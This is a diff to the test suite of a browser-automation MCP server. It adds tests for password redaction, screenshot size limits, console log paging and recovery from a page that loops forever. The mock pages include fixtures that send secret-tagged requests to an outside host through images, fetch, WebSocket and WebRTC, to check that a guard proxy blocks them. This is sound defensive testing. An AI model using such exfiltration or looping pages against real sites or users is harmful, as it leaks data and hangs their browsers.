@@ -80,6 +80,20 @@ function testApp(outside: () => string, seen: Array<{ path: string; role?: strin
           return html(200, page('Exfil', `<img src="${outside()}/img?secret=1"><img src="/redirect-img">
 <script>fetch('${outside()}/fetch?secret=2').catch((e) => console.log('fetch failed: ' + e.message));
 new WebSocket('${outside().replace('http', 'ws')}/ws?secret=4');</script>`));
+        case 'GET /login-get':
+          // A form without method="post": the browser sends the password in the URL.
+          return html(200, page('Sign in', '<form action="/session"><input id="email" name="email"><input id="password" name="password" type="password"><button type="submit">Sign in</button></form>'));
+        case 'GET /session':
+          return url.searchParams.get('password') === ENTERPRISE_PASSWORD
+            ? html(200, page('Signed in', '<p id="whoami">Logged in as enterprise</p>'), { 'set-cookie': 'role=enterprise; Path=/; HttpOnly' })
+            : html(401, page('Bad credentials', 'bad credentials'));
+        case 'GET /tall':
+          return html(200, page('Tall', '<div style="height:30000px;background:linear-gradient(#fff,#00f)">tall</div>'));
+        case 'GET /flood':
+          return html(200, page('Flood', `<script>for (let i = 0; i < 300; i++) console.error(i + ' ' + 'x'.repeat(5000));</script>`));
+        case 'GET /busy':
+          // Loads, then its script never yields again.
+          return html(200, page('Busy', '<script>addEventListener("load", () => setTimeout(() => { for (;;) {} }, 0));</script>'));
         case 'GET /webrtc':
           // ICE gathering sends STUN over UDP, past any HTTP proxy (and resolves a STUN host name over DNS).
           return html(200, page('WebRTC', `<script>const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${Number(url.searchParams.get('port'))}' }] });
@@ -230,6 +244,7 @@ describe('browser MCP server against real Chromium', () => {
         free: { description: 'free plan user', loginUrl: '/dev-login?role=free', expect: 'text=Logged in as free' },
         enterprise: { description: 'enterprise admin', form, expect: '#whoami >> text=Logged in as enterprise' },
         'no-secret': { description: 'password variable unset', form: { ...form, fields: { '#password': { env: 'BUGBOT_TEST_UNSET_PASSWORD' } } } },
+        'via-get': { description: 'a login form that sends its fields in the URL', form: { ...form, url: '/login-get' }, expect: 'text=Logged in as enterprise' },
         'wrong-proof': { description: 'login that does not show its proof', loginUrl: '/dev-login?role=free', expect: 'text=Logged in as someone else' },
       },
     };
@@ -356,6 +371,54 @@ describe('browser MCP server against real Chromium', () => {
     // The second layer did the refusing for the redirects and the WebSocket.
     assert.match(server.stderr(), new RegExp(`guard proxy refused (GET|CONNECT) \\S*${outsideOrigin.slice(7)}`));
     assert.deepEqual(outsideHits, [], 'nothing reached the outside server');
+  });
+
+  // Review finding: a login form that sends its fields in the URL showed the seeded
+  // password in the tool's answer (the page's address) and in the HTTP log entries.
+  it("never shows a seeded user's password, wherever the page puts it", async () => {
+    const mark = lastEntry(textOf(await server.call('browser_console_logs')));
+    const ok = await server.call('browser_dev_login', { role: 'via-get' });
+    assert.ok(!ok.isError, textOf(ok));
+    assert.match(textOf(ok), /Page: http:\/\/127\.0\.0\.1:\d+\/session\?email=ent%40example\.test&password=\[secret\]/);
+    await server.call('browser_navigate', { url: `/session?password=${encodeURIComponent(ENTERPRISE_PASSWORD)}x` });
+    const logs = textOf(await server.call('browser_console_logs', { after: mark }));
+    assert.match(logs, /\[http\] 401 GET .*password=\[secret\]x/);
+    for (const r of [ok, await server.call('browser_screenshot')]) assert.ok(!textOf(r).includes(ENTERPRISE_PASSWORD), textOf(r));
+    assert.ok(!logs.includes(ENTERPRISE_PASSWORD) && !logs.includes(encodeURIComponent(ENTERPRISE_PASSWORD)), logs);
+  });
+
+  // Review findings: a 30000 px page made a 32 MB image (models take about 8000 px), and
+  // 300 long console errors a 410,000-character answer.
+  it('a full-page screenshot is cut at 8000 px and says so; console logs come in answers of bounded size, the rest one call away', async () => {
+    await server.call('browser_navigate', { url: '/tall' });
+    const shot = await server.call('browser_screenshot', { full_page: true });
+    assert.ok(!shot.isError, textOf(shot));
+    const image = shot.content.find((c) => c.type === 'image') as { data: string };
+    const png = Buffer.from(image.data, 'base64');
+    assert.equal(png.readUInt32BE(20), 8000, 'the PNG is 8000 px high');
+    assert.match(textOf(shot), /\(the page is \d+×300\d\d px: only its top-left \d+×8000 px are shown\)/);
+
+    const mark = lastEntry(textOf(await server.call('browser_console_logs')));
+    await server.call('browser_navigate', { url: '/flood' });
+    const first = textOf(await server.call('browser_console_logs', { after: mark }));
+    assert.ok(first.length < 45_000, `${first.length} characters`);
+    const next = /newer entries did not fit in this answer: call again with after=(\d+)/.exec(first);
+    assert.ok(next, first.slice(0, 300));
+    const second = textOf(await server.call('browser_console_logs', { after: Number(next[1]) }));
+    assert.match(second, new RegExp(`^\\d+ entries, #${Number(next[1]) + 1} to `));
+  });
+
+  // Review finding: a page looping after its load event held the tool call for ever, and
+  // every later call timed out on the same busy page.
+  it('a page whose script loops after it loaded is closed, the call says so, and the next call gets a fresh page', async () => {
+    const started = Date.now();
+    const busy = await server.client.callTool({ name: 'browser_navigate', arguments: { url: '/busy' } }, undefined, { timeout: 30_000 });
+    assert.equal(busy.isError, true);
+    assert.match(textOf(busy as CallToolResult), /stopped answering \(a script on it may be looping\), so it was closed: the next browser tool call opens a fresh page/);
+    assert.ok(Date.now() - started < 20_000, `answered in ${Date.now() - started} ms`);
+    const next = await server.call('browser_navigate', { url: '/' });
+    assert.ok(!next.isError, textOf(next));
+    assert.match(textOf(next), /^Opened http:\/\/127\.0\.0\.1:\d+\/ — "Home/);
   });
 
   it('sends nothing over WebRTC: no STUN packet leaves for a host the guard proxy would refuse', async () => {
